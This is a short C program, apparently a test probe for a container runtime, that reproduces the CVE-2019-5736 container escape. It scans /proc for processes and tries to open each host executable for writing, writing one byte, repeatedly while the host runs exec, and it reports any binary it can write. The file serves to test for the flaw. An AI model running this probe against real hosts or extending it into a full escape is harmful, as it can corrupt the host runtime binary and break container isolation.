/* SPDX-License-Identifier: Apache-2.0
 *
 * The attacker of row S-14 (CVE-2019-5736): tries to open for writing whatever runs here. With `watch`
 * it looks at every process, again and again, while the host calls `exec`. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

static void try(const char *pid)
{
    char path[64], target[512];

    snprintf(path, sizeof path, "/proc/%s/exe", pid);
    ssize_t length = readlink(path, target, sizeof target - 1);
    if (length < 0)
        return;
    target[length] = 0;
    /* What the image itself brought may be written: it is the container's. */
    if (strncmp(target, "/bin/", 5) == 0 || strcmp(target, "/exe") == 0)
        return;
    int fd = open(path, O_RDWR | O_CLOEXEC);
    if (fd >= 0 && write(fd, "x", 1) == 1)
        printf("WRITABLE %s\n", target);
    if (fd >= 0)
        close(fd);
}

int main(int argc, char **argv)
{
    long rounds = argc > 1 && strcmp(argv[1], "watch") == 0 ? 10000000 : 1; /* until it is killed */

    setvbuf(stdout, NULL, _IOLBF, 0);
    try("self");
    for (long i = 0; i < rounds; i++) {
        DIR *all = opendir("/proc");
        for (struct dirent *entry; all && (entry = readdir(all));)
            if (entry->d_name[0] >= '0' && entry->d_name[0] <= '9')
                try(entry->d_name);
        if (all)
            closedir(all);
        if (i == 0)
            puts("looked");
        usleep(100);
    }
    return 0;
}
